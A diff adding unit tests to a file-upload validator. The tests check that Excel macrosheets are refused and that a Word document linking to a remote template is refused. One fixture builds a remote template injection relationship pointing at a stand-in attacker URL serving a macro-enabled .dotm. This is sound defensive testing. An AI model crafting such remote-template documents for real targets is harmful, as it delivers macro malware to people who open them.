@@ -144,6 +144,18 @@ class TestMacros:
         assert refusal(name, with_part(docx(), "word/VBAPROJECT.BIN")) == "upload.macro"
         assert refusal(name, with_part(docx(), "word/activeX/activeX1.bin")) == "upload.macro"
 
+    def test_macros_of_old_excel_are_found(self) -> None:
+        assert refusal("a.xlsx", with_part(xlsx(), "xl/macrosheets/sheet1.xml")) == "upload.macro"
+        assert uploads.check("a.xlsx", with_part(xlsx(), "xl/worksheets/sheet1.xml"))
+
+    def test_a_template_from_elsewhere_is_not_fetched(self) -> None:
+        link = b'<Relationship Type="x/attachedTemplate" Target="%s" TargetMode="%s"/>'
+        rels = "word/_rels/settings.xml.rels"
+        far = with_part(docx(), rels, link % (b"http://evil.example/a.dotm", b"External"))
+        near = with_part(docx(), rels, link % (b"a.dotx", b"Internal"))
+        assert refusal("a.docx", far) == "upload.macro"
+        assert uploads.check("a.docx", near).content_type == uploads.DOCX
+
     def test_a_macro_type_is_found_without_the_part(self) -> None:
         data = with_types(
             docx(),
